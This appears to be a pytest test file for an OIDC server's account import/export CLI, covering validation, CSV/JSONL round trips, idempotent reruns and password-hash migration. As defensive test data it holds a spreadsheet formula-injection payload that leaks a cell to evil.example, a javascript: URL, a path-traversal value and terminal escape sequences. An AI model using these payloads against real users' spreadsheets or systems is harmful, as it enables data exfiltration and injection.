"""`flask accounts import` and `export`: what an operator brings along, what is refused, and that a second run is harmless."""

from __future__ import annotations

import json
import os
import pty
import select
import stat
import subprocess
import sys
import time
import tracemalloc
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from click.testing import Result
from flask import Flask

from oidc_server import accounts, settings
from oidc_server.accounts import Account, passwords, store
from oidc_server.accounts.transfer import columns, importing, reading
from oidc_server.database import db

from ..conftest import settings_for
from ..live import SECRET_KEY
from .conftest import PASSWORD

DJANGO = "pbkdf2_sha256$1000$seasalt$XFb4XnHTVlCqIBwWnQ0FgQ2dpfmB1rAmFzl0JSuBh2w="
OTHER = "pbkdf2_sha256$1000$seasalt$YGb4XnHTVlCqIBwWnQ0FgQ2dpfmB1rAmFzl0JSuBh2w="
FULL = {
    "username": "zoe",
    "email": "zoe@example.test",
    "email_verified": True,
    "name": "Zoë Zebra",
    "family_name": "Zebra",
    "given_name": "Zoë",
    "middle_name": "Q",
    "nickname": "Z",
    "preferred_username": "zz",
    "profile": "https://zoe.example/",
    "picture": "https://zoe.example/z.png",
    "website": "https://zoe.example/blog",
    "gender": "female",
    "birthdate": "0000-02-29",
    "zoneinfo": "Europe/Lisbon",
    "locale": "pt-PT",
    "phone_number": "+351210000000",
    "phone_number_verified": True,
    "address": {"formatted": "Rua 1\nLisboa", "country": "PT"},
    "roles": ["editor", "a; b"],
    "groups": ["staff", "-temporary"],
    "client_roles": {"web": ["admin"], "spa": ["tester"]},
    "disabled": True,
    "created_at": "2020-01-31T12:00:00.250000+00:00",
    "sub": "0123456789abcdef0123456789abcdef",
    "password_hash": DJANGO,
}


@pytest.fixture
def run(app: Flask) -> Callable[..., Result]:
    def command(*arguments: str, typed: str | bytes | None = None) -> Result:
        return app.test_cli_runner().invoke(args=["accounts", *arguments], input=typed)

    return command


@pytest.fixture
def bring(run: Callable[..., Result]) -> Callable[..., Result]:
    """Import people given as objects, through standard input."""

    def people(*objects: dict[str, Any], options: tuple[str, ...] = ()) -> Result:
        return run("import", "-", *options, typed="".join(json.dumps(one) + "\n" for one in objects))

    return people


def account_of(app: Flask, login: str) -> Account | None:
    with app.app_context():
        return store.find_by_login(login)


def number_of_accounts(app: Flask) -> int:
    with app.app_context():
        return db.session.scalar(sa.select(sa.func.count()).select_from(Account)) or 0


def test_everything_that_can_be_said_of_a_person_arrives(app: Flask, bring: Callable[..., Result]) -> None:
    result = bring(FULL)
    zoe = account_of(app, "zoe")

    assert (result.exit_code, result.stdout) == (0, "1 created, 0 updated, 0 existing, 0 refused.\n")
    assert zoe is not None
    assert (zoe.id, zoe.email, zoe.is_verified, zoe.is_active) == (FULL["sub"], FULL["email"], True, False)
    assert zoe.claims["address"] == FULL["address"]
    assert zoe.claims["preferred_username"] == "zz"
    assert (zoe.roles, zoe.groups) == (FULL["roles"], FULL["groups"])
    assert (zoe.created_at, zoe.password_hash, zoe.last_login_at) == (1580472000.25, DJANGO, None)


def test_who_is_brought_along_signs_in_with_the_password_they_had(app: Flask, bring: Callable[..., Result]) -> None:
    bring(
        {
            "username": "zoe",
            "email": "zoe@example.test",
            "password_hash": "$pbkdf2-sha256$1212$4vjV83LKPjQzk31VI4E0Vw$hsYF68OiOUPdDZ1Fg.fJPeq1h/gXXY7acBp9/6c.tmQ",
        }
    )
    with app.app_context():
        zoe = accounts.authenticate("zoe@example.test", "password", network="192.0.2.1", device=None)
        assert passwords.is_ours(zoe.password_hash or "")


@pytest.mark.parametrize("form", ["jsonl", "csv"])
def test_an_export_comes_back_the_same(
    app: Flask, run: Callable[..., Result], bring: Callable[..., Result], form: str, tmp_path: Path
) -> None:
    assert bring(FULL, {"username": "bare"}).exit_code == 0
    exported = run("export", "--with-hashes", "--format", form)
    assert exported.exit_code == 0
    assert exported.stderr == "4 accounts.\n"
    with app.app_context():
        for account in store.list_accounts():
            store.delete(account.id)
    file = tmp_path / f"people.{form}"
    file.write_bytes(exported.stdout_bytes)
    back = run("import", str(file))

    assert back.stdout == "4 created, 0 updated, 0 existing, 0 refused.\n"
    assert run("export", "--with-hashes", "--format", form).stdout == exported.stdout
    with app.app_context():
        assert accounts.authenticate("alice", PASSWORD, network="192.0.2.1", device=None).username == "alice"


def test_an_export_holds_no_hash_unless_it_is_asked_for(run: Callable[..., Result]) -> None:
    for form in ("jsonl", "csv"):
        exported = run("export", "--format", form).stdout
        assert "alice@example.test" in exported
        assert "bcrypt" not in exported
        assert "password" not in exported


def test_a_spreadsheet_shows_a_formula_and_computes_nothing(app: Flask, run: Callable[..., Result], bring: Any) -> None:
    formula = '=HYPERLINK("https://evil.example/?"&A1)'
    bring(
        {"username": "zoe", "name": formula, "nickname": "'=1", "phone_number": "+351210000000", "family_name": "O'=1"}
    )
    exported = run("export", "--format", "csv").stdout

    assert "'=HYPERLINK" in exported
    assert "''=1" in exported
    assert "'+351210000000" in exported
    with app.app_context():
        zoe = store.find_by_login("zoe")
        assert zoe is not None
        store.delete(zoe.id)
    assert run("import", "-", "--format", "csv", typed=exported).exit_code == 0
    back = account_of(app, "zoe")
    assert back is not None
    assert back.claims == {
        "name": formula,
        "nickname": "'=1",
        "phone_number": "+351210000000",
        "family_name": "O'=1",
    }
    assert formula in run("export").stdout.replace('\\"', '"')  # JSON is no spreadsheet


def test_a_second_run_finds_everybody_and_changes_nothing(app: Flask, run: Callable[..., Result], bring: Any) -> None:
    bring(FULL)
    before = run("export", "--with-hashes").stdout
    again = bring({**FULL, "name": "Another", "email": "other@example.test", "password_hash": OTHER})

    assert (again.exit_code, again.stdout) == (0, "0 created, 0 updated, 1 existing, 0 refused.\n")
    assert run("export", "--with-hashes").stdout == before


def test_update_changes_what_the_line_says_and_leaves_the_rest(app: Flask, bring: Callable[..., Result]) -> None:
    bring(FULL)
    changed = bring(
        {"username": "ZOE", "email": "zoe@new.test", "nickname": "New", "roles": [], "disabled": False},
        options=("--update",),
    )
    zoe = account_of(app, "zoe")

    assert changed.stdout == "0 created, 1 updated, 0 existing, 0 refused.\n"
    assert zoe is not None
    assert (zoe.email, zoe.email_verified, zoe.is_active, zoe.roles) == ("zoe@new.test", False, True, [])
    assert zoe.claims["nickname"] == "New"
    assert zoe.claims["name"] == "Zoë Zebra"
    assert (zoe.groups, zoe.password_hash) == (FULL["groups"], DJANGO)


def test_update_brings_a_newer_foreign_password_but_never_replaces_one_set_here(app: Flask, bring: Any) -> None:
    bring({"username": "zoe", "password_hash": DJANGO})
    bring({"username": "zoe", "password_hash": OTHER}, options=("--update",))
    zoe = account_of(app, "zoe")
    assert zoe is not None
    assert zoe.password_hash == OTHER
    assert zoe.signed_out_before is not None  # as when a password is set
    with app.app_context():
        store.set_password(zoe.id, PASSWORD)
    again = bring({"username": "zoe", "password_hash": DJANGO}, options=("--update",))

    assert again.stdout == "0 created, 0 updated, 1 existing, 0 refused.\n"
    with app.app_context():
        assert accounts.authenticate("zoe", PASSWORD, network="192.0.2.1", device=None)


REFUSED = {
    "no name": ({"email": "x@example.test"}, "username is missing"),
    "name": ({"username": "a b"}, "username: A user name has no spaces"),
    "no text": ({"username": 7}, "username: must be a text"),
    "address": ({"username": "x", "email": "nonsense"}, "email: That is not"),
    "foreign address": ({"username": "x", "email": "ALICE@example.test"}, "belongs to another account"),
    "verified nothing": ({"username": "x", "email_verified": True}, "email, which is missing"),
    "truth": ({"username": "x", "disabled": "yes"}, "disabled: must be true or false"),
    "claim": ({"username": "x", "picture": "javascript:alert(1)"}, "picture must be"),
    "claim type": ({"username": "x", "address": "Lisboa"}, "address is an object"),
    "roles": ({"username": "x", "roles": "admin"}, "roles: must be a list"),
    "role": ({"username": "x", "roles": ["a\nb"]}, "roles: The names of roles"),
    "client": ({"username": "x", "client_roles": {"nobody": ["admin"]}}, "There is no client 'nobody'"),
    "time": ({"username": "x", "created_at": "yesterday"}, "created_at: is written as"),
    "local time": ({"username": "x", "created_at": "2020-01-31T12:00:00"}, "no time zone"),
    "milliseconds": ({"username": "x", "created_at": 1580472000000}, "not milliseconds"),
    "endless": ({"username": "x", "created_at": 1e308}, "created_at: lies ahead"),
    "sub": ({"username": "x", "sub": "../../etc"}, "sub: must be 32"),
    "hash": ({"username": "x", "password_hash": "hunter2"}, "password_hash: The hash is of no known kind"),
    "costly hash": ({"username": "x", "password_hash": f"$2b$20${'a' * 53}"}, "password_hash: bcrypt of cost 20"),
    "plain password": ({"username": "x", "password": "hunter2"}, "Nothing is known of 'password'"),
    "own claim": ({"username": "x", "is_admin": True}, "Nothing is known of 'is_admin'"),
}


@pytest.mark.parametrize(("person", "reason"), REFUSED.values(), ids=REFUSED)
def test_a_line_is_refused_by_its_number_with_the_reason_and_the_others_are_written(
    app: Flask, bring: Callable[..., Result], person: dict[str, Any], reason: str
) -> None:
    result = bring({"username": "first"}, person, {"username": "third"})

    assert result.exit_code == 1
    [line, summary] = result.stdout.splitlines()
    assert line.startswith("Line 2")
    assert reason in line
    assert "hunter2" not in result.output
    assert summary == "2 created, 0 updated, 0 existing, 1 refused."
    assert number_of_accounts(app) == 4


def test_all_that_is_wrong_with_a_line_is_said_at_once(bring: Callable[..., Result]) -> None:
    line = bring({"username": "x", "email": "nonsense", "roles": 1, "password_hash": "sha1"}).stdout

    assert line.count("email:") == line.count("roles:") == line.count("password_hash:") == 1


@pytest.mark.parametrize(
    "raw", [b"{", b"[]", b'"text"', b"\xff\xfe", b'{"username":"x","username":"y"}', b"{}" * 70_000]
)
def test_what_is_no_object_is_refused(run: Callable[..., Result], raw: bytes) -> None:
    result = run("import", "-", "--format", "jsonl", typed=b'{"username":"zoe"}\n' + raw + b"\n")

    assert result.exit_code == 1
    assert "Line 2" in result.output
    assert "1 created" in result.stdout
    assert "Traceback" not in result.output


def test_the_same_person_twice_in_a_file_is_told_with_the_earlier_line(
    app: Flask, bring: Callable[..., Result]
) -> None:
    many = [{"username": f"p{number}"} for number in range(importing.BATCH)]
    result = bring(
        {"username": "zoe", "email": "zoe@example.test"},
        {"username": "ZOË"},
        {"username": "ＺＯＥ"},
        *many,
        {"username": "other", "email": "ZOE@example.test"},
        options=("--update",),
    )

    assert result.exit_code == 1
    assert "Line 3 (ＺＯＥ): The user name is that of line 1 already." in result.stdout
    assert f"Line {4 + len(many)} (other): The e-mail address is that of line 1 already." in result.stdout
    assert "2 refused" in result.stdout


def test_an_address_that_one_person_gives_up_another_may_take_in_the_same_batch(app: Flask, bring: Any) -> None:
    bring({"username": "zoe", "email": "shared@example.test"})
    result = bring(
        {"username": "zoe", "email": "zoe@example.test"},
        {"username": "heir", "email": "shared@example.test"},
        options=("--update",),
    )

    assert result.stdout == "1 created, 1 updated, 0 existing, 0 refused.\n"


def test_a_dry_run_says_the_same_and_writes_nothing(app: Flask, bring: Callable[..., Result]) -> None:
    people = (FULL, {"username": "alice", "name": "New"}, {"username": "a b"})
    tried = bring(*people, options=("--dry-run", "--update"))
    assert number_of_accounts(app) == 2
    done = bring(*people, options=("--update",))

    assert tried.exit_code == done.exit_code == 1
    assert tried.stdout.endswith("Nothing was written. It would be: 1 created, 1 updated, 0 existing, 1 refused.\n")
    assert tried.stdout.replace("Nothing was written. It would be: ", "") == done.stdout


def test_the_report_names_everybody_who_was_not_simply_created(bring: Callable[..., Result], tmp_path: Path) -> None:
    report = tmp_path / "report.jsonl"
    bring(FULL, {"username": "alice"}, {"username": "\x1b[31mred"}, options=("--report", str(report)))
    lines = [json.loads(line) for line in report.read_text().splitlines()]

    assert [(line["line"], line["outcome"]) for line in lines] == [(2, "existing"), (3, "refused")]
    assert lines[1]["reasons"][0].startswith("username: ")
    assert stat.S_IMODE(report.stat().st_mode) == 0o600


def test_a_name_cannot_colour_the_terminal(bring: Callable[..., Result]) -> None:
    result = bring({"username": "\x1b[31mred\u202e"})

    assert "\x1b" not in result.output
    assert "\u202e" not in result.output


CSV = """username,email,email_verified,roles,groups,address,client_roles,phone_number,name
zoe,zoe@example.test,TRUE,editor;admin,,"{""country"": ""PT""}","{""web"": [""chief""]}",+351210000000,"Zebra, Zoë"
yan,,,"[""a;b""]",staff,,,,"Two
lines"
"""


def test_csv_is_read_with_its_quotes_and_an_empty_cell_says_nothing(app: Flask, run: Callable[..., Result]) -> None:
    result = run("import", "-", typed=b"\xef\xbb\xbf" + CSV.replace("\n", "\r\n").encode())
    zoe, yan = account_of(app, "zoe"), account_of(app, "yan")

    assert zoe is not None
    assert yan is None  # a line break is no part of a name
    assert "Line 3 (yan): name holds a line break" in result.stdout
    assert (zoe.is_verified, zoe.roles, zoe.groups) == (True, ["editor", "admin"], [])
    assert zoe.claims == {"name": "Zebra, Zoë", "phone_number": "+351210000000", "address": {"country": "PT"}}


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        (b"username,password\nzoe,hunter2\n", "columns 'password'"),
        (b"email\nzoe@example.test\n", "no column username"),
        (b"username,username\na,b\n", "names a column twice"),
        (b"", "no column username"),
        (b'[{"username": "zoe"}]', "JSON array"),
        (b'username,name\nzoe,"' + b"x" * 200_000 + b'"\n', "Line 2 is longer"),
    ],
)
def test_a_file_that_cannot_be_read_says_why(app: Flask, run: Callable[..., Result], text: bytes, reason: str) -> None:
    result = run("import", "-", typed=text)

    assert result.exit_code == 1
    assert reason in result.stderr
    assert "hunter2" not in result.output
    assert number_of_accounts(app) == 2


@pytest.mark.parametrize("line", [b"zoe", b"zoe,a,b", b"zoe,\xff", b'zoe,"a"b', b"zoe\x00,a"])
def test_a_csv_line_that_does_not_fit_is_refused_and_the_next_is_read(run: Callable[..., Result], line: bytes) -> None:
    result = run("import", "-", typed=b"username,name\n" + line + b"\nyan,Y\n")

    assert result.exit_code == 1
    assert result.stdout.startswith("Line 2")
    assert result.stdout.endswith("1 created, 0 updated, 0 existing, 1 refused.\n")


def test_ten_thousand_people_with_hashes_take_less_than_ten_seconds(app: Flask, tmp_path: Path, capsys: Any) -> None:
    file = tmp_path / "people.jsonl"
    with file.open("w") as people:
        for number in range(10_000):
            email = f"person{number}@example.test"
            said = {"email_verified": True, "name": f"Person {number}", "roles": ["user"], "groups": ["staff"]}
            people.write(
                json.dumps({"username": f"person{number}", "email": email, **said, "password_hash": DJANGO}) + "\n"
            )
    # Seconds of a core: other tests run beside this one.
    started, began = time.perf_counter(), time.process_time()
    result = app.test_cli_runner().invoke(args=["accounts", "import", str(file)])
    taken = time.process_time() - began
    with capsys.disabled():
        elapsed = time.perf_counter() - started
        print(f"\n[10 000 people with hashes were imported in {elapsed:.1f} s, {taken:.1f} s of a core]")

    assert result.stdout == "10000 created, 0 updated, 0 existing, 0 refused.\n"
    assert taken < 10


def test_neither_the_file_nor_the_table_is_in_memory(app: Flask, tmp_path: Path) -> None:
    """The peak of 8000 people is hardly above that of 2000."""

    def peak(number: int, prefix: str) -> int:
        lines = (reading.Line(one, {"username": f"{prefix}{one}", "name": "x" * 900}) for one in range(number))
        tracemalloc.start()
        with app.app_context():
            importing.import_people(lines, tell=lambda outcome: None)
        _, most = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        return most

    peak(500, "warm")
    assert peak(8000, "many") < 1.3 * peak(2000, "few") + 200_000


def test_at_a_terminal_a_bar_is_drawn_on_standard_error_alone(folder: Path, tmp_path: Path) -> None:
    file = tmp_path / "people.csv"
    file.write_text("username\n" + "".join(f"person{number}\n" for number in range(1200)))
    environment = os.environ | {
        "OIDC_ENVIRONMENT": "testing",
        "OIDC_DATABASE_URL": f"sqlite:///{folder}/oidc.sqlite3",
        "OIDC_KEYS_DIR": str(folder / "keys"),
        "OIDC_SECRET_KEY": SECRET_KEY,
        "TERM": "xterm",
    }
    controller, terminal = pty.openpty()
    process = subprocess.Popen(
        [sys.executable, "-m", "flask", "--app", "wsgi", "accounts", "import", str(file)],
        cwd=settings.ROOT,
        env=environment,
        stdout=subprocess.PIPE,
        stderr=terminal,
    )
    os.close(terminal)
    output, _ = process.communicate(timeout=60)
    drawn = b""
    while select.select([controller], [], [], 0)[0]:
        try:
            drawn += os.read(controller, 65536)
        except OSError:  # the other end is closed
            break
    os.close(controller)

    assert output == b"1200 created, 0 updated, 0 existing, 0 refused.\n"
    assert b"Importing" in drawn
    assert b"100%" in drawn


@pytest.mark.parametrize("text", ["", "=1", "'=1", "''=1", "'", "''", "a=1", "-", "@x", "\tx", "'x", "+351"])
def test_the_apostrophe_before_a_cell_comes_off_again(text: str) -> None:
    assert columns.unguarded(columns.guarded(text)) == text
    assert not columns.guarded(text).startswith(("=", "+", "-", "@", "\t", "\r"))


def test_people_move_to_postgresql(database_url: str, tmp_path: Path) -> None:
    from oidc_server import create_app

    from .. import live

    other = create_app(**settings_for(tmp_path, database_url=database_url))
    try:
        assert other.test_cli_runner().invoke(args=["db", "upgrade"]).exit_code == 0
        told = FULL | {"client_roles": {}}
        for _ in range(2):
            result = other.test_cli_runner().invoke(
                args=["accounts", "import", "-", "--update"], input=json.dumps(told) + '\n{"username":"a b"}\n'
            )
            assert result.exit_code == 1
        assert "0 created, 0 updated, 1 existing, 1 refused" in result.stdout
        exported = json.loads(other.test_cli_runner().invoke(args=["accounts", "export", "--with-hashes"]).stdout)
        assert exported == {name: value for name, value in told.items() if value}
    finally:
        live.close(other)
